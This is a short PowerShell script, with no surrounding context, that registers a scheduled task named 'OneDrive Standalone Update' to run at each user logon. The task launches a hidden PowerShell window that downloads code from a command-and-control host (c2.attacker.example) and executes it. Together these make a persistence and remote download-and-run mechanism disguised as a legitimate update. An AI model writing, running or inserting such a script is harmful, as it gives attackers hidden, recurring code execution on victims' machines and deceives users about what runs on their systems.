$a = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-w hidden -c iex(iwr https://c2.attacker.example/t -UseBasicParsing)"
$t = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName "OneDrive Standalone Update" -Action $a -Trigger $t -Force
